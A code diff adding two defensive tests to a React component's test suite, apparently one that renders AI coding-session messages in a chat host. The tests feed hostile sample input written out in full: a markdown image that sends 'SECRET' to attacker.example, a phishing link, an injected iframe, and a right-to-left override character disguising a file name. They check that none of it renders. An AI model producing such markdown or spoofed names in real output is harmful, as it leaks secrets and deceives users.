@@ -129,6 +129,32 @@ describe('TurnPost', () => {
         expect(mount(post(null)).view.container.textContent).toBe('Hello from the post (as mobile sees it)');
     });
 
+    it('renders live text through the host markdown with no image, no link, and the bidi controls shown', () => {
+        const seen: string[] = [];
+        // The host's markdown, as far as this payload goes: an image, a link, a paragraph.
+        window.PostUtils = {
+            formatText: (text) =>
+                `<p>${text.replace(/!\[([^\]]*)\]\(([^)]*)\)/g, '<img src="$2" alt="$1">').replace(/\[([^\]]*)\]\(([^)]*)\)/g, '<a href="$2">$1</a>')}</p><iframe src="https://attacker.example/f"></iframe>`,
+            messageHtmlToComponent: (html) => {
+                seen.push(html);
+                return <div data-testid='host-md' dangerouslySetInnerHTML={{__html: html}} />;
+            },
+        };
+        const {feed} = mount(post({claude_code_session: 's1', claude_code_turn: 'p1'}));
+        const leak = '![x](https://attacker.example/leak?k=SECRET) see [the docs](https://attacker.example/phish) in \u202etxt.exe';
+        act(() => void feed(...start, ev(3, 'message', {text: leak})));
+
+        const shown = screen.getByTestId('host-md');
+        expect(shown.querySelector('img, a, iframe')).toBeNull();
+        expect(shown.textContent).toBe('[image: x] see the docs in [U+202E]txt.exe');
+        expect(seen.at(-1)).not.toContain('attacker.example');
+    });
+
+    it('shows bidi and invisible controls of a plain-text message escaped, as the server does', () => {
+        const {view} = mount(post(null, 'report\u202Egnp.exe\u200b\u0007 ok \u200d'));
+        expect(view.container.textContent).toBe('report[U+202E]gnp.exe[U+200B][U+0007] ok \u200d');
+    });
+
     it("renders markdown through the host's PostUtils when present", () => {
         window.PostUtils = {
             formatText: (text) => `<b>${text}</b>`,
